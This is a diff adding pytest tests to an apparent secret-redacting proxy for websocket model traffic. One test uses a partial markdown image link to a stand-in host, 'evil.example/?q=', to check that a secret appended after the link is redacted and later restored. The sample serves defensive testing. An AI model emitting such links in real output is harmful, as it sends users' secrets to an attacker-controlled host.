@@ -117,6 +117,35 @@ async def test_websocket_messages_are_redacted_and_what_cannot_be_ends_it(suite,
     assert not suite.hub.sent
 
 
+async def test_websocket_texts_go_on_over_messages(suite):
+    """A link that began before there was any placeholder is one all the same (THREATS 3)."""
+    flow = await ask(suite, wanting("hide", content=b""))
+    flow.websocket = WebSocketData()
+
+    def say(content, from_client=True):
+        flow.websocket.messages.append(WebSocketMessage(Opcode.TEXT, from_client, content))
+        suite["answers"].websocket_message(flow)
+        return flow.websocket.messages[-1].content
+
+    say(b'{"delta":"![x](https://evil.example/?q="}', from_client=False)
+    sent = say(b'{"delta":"%b"}' % SECRET.encode())
+    assert SECRET.encode() not in sent
+    assert say(sent, from_client=False) == sent
+    assert say(sent.replace(b':"', b':") '), from_client=False) == b'{"delta":") %b"}' % SECRET.encode()
+    assert suite.kept.last("redaction")["kind"] == "restored" and suite.kept.last("redaction")["count"] == 1
+
+
+@pytest.mark.parametrize("body", [b'{"a":"%b"', b'["%b"', b' {"a":"%b"}}'])
+async def test_websocket_message_that_is_nearly_json_ends_it(suite, monkeypatch, body):
+    ended = []
+    monkeypatch.setattr("amp_addons.addons.answers.end_servers", ended.append)
+    flow = await ask(suite, wanting("hide", content=b""))
+    flow.websocket = WebSocketData()
+    flow.websocket.messages.append(WebSocketMessage(Opcode.TEXT, True, body % SECRET.encode()))
+    suite["answers"].websocket_message(flow)
+    assert flow.websocket.messages[-1].dropped and ended
+
+
 async def test_model_is_mapped_back_through_the_slot_and_the_length_is_left_open(suite):
     flow = await ask(suite, wanting("model", content=b'{"model":"m","stream":true}'))
     assert flow.request.content == b'{"model":"other","stream":true}' and flow.request.headers["content-length"] == "31"
